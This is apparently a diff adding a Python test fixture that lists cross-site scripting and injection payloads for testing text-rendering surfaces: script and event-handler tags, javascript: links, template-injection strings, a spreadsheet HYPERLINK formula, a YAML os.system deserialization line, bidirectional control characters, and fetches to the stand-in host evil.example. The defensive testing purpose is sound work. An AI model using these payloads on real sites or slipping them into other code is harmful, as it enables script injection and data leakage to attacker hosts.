@@ -1,0 +1,71 @@
+"""Text that tries to run, to fetch or to mislead, for tests of every place where text is shown.
+
+Whatever runs calls `hit()`, which the tests listen to; what fetches asks for `evil.example`.
+"""
+
+PAYLOADS = (
+    # elements that run
+    "<script>hit()</script>",
+    "<script src=https://evil.example/x.js></script>",
+    "</script><script>hit()</script>",
+    "</style><script>hit()</script>",
+    "</title><script>hit()</script>",
+    "</textarea><script>hit()</script>",
+    "<scr<script>ipt>hit()</scr</script>ipt>",
+    "<SCRIPT\n>hit()</SCRIPT\t>",
+    "<!--><script>hit()</script>-->",
+    "<![CDATA[<script>hit()</script>]]>",
+    "<template><script>hit()</script></template>",
+    "<noscript><p title='</noscript><script>hit()</script>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
+    # attributes that run
+    "<img src=x onerror=hit()>",
+    "<img src=x onerror=&#104;it()>",
+    "<svg onload=hit()>",
+    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:hit()><text y=20>click</text></a></svg>",
+    "<body onload=hit()>",
+    "<details open ontoggle=hit()>",
+    "<input autofocus onfocus=hit()>",
+    "<video><source onerror=hit()>",
+    "<marquee onstart=hit()>",
+    '" onmouseover="hit()" x="',
+    "' autofocus onfocus=hit() '",
+    "x` onmouseover=hit() `",
+    # links and frames
+    "<a href=javascript:hit()>click</a>",
+    "[click](javascript:hit())",
+    "[click](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
+    "<a href='java\tscript:hit()'>click</a>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<iframe src=javascript:parent.hit()></iframe>",
+    "<object data=javascript:hit()></object>",
+    "<form action=javascript:hit()><button>go</button></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    # what fetches
+    "<img src=https://evil.example/a.png>",
+    "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
+    "![seen](https://evil.example/read.png)",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<p style='background:url(https://evil.example/x.png)'>text</p>",
+    # languages of templates, scripts and sheets
+    "${hit()}",
+    "`+hit()+`",
+    "\\`${hit()}\\`",
+    "{{ hit() }}{% raw %}",
+    "{{constructor.constructor('hit()')()}}",
+    "<%= hit() %>",
+    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
+    "&lt;script&gt;hit()&lt;/script&gt;",
+    "'];hit();//",
+    "\\'-hit()-\\'",
+    "$\\href{javascript:hit()}{click}$",
+    '=HYPERLINK("https://evil.example","click")',
+    "!!python/object/apply:os.system ['true']",
+    # direction of writing and controls
+    "held by \u202eder\u202c forces",
+    "\u2066isolated\u2069 \u202dforced\u202c",
+    "nul\x00 and bell\x07",
+)
